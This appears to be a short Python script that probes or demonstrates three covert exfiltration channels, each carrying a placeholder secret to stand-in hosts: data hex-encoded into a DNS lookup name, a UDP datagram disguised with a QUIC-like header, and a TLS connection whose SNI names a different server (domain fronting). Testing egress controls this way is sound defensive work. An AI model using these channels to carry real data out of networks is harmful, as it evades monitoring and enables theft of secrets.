"""Carries data out where nobody looks: in names, in datagrams, and behind the name of an honest server."""

import binascii
import socket
import ssl


def told(what: str, action) -> None:
    try:
        print(f"{what}: went through: {action()}")
    except OSError as error:
        print(f"{what}: {error}")


def in_a_name():
    return socket.getaddrinfo(binascii.hexlify(b"the secret").decode() + ".collect.example.net", 443)


def in_a_datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(5)
        datagrams.connect((socket.gethostbyname("relay.example.test"), 443))
        datagrams.send(b"\xc3\x00\x00\x00\x01" + b"the secret")
        return datagrams.recv(100)


def behind_a_name():
    context = ssl.create_default_context()
    with socket.create_connection(("relay.example.test", 443), timeout=5) as connection:
        return context.wrap_socket(connection, server_hostname="collect.example.net")


told("a name", in_a_name)
told("a datagram", in_a_datagram)
told("a front", behind_a_name)
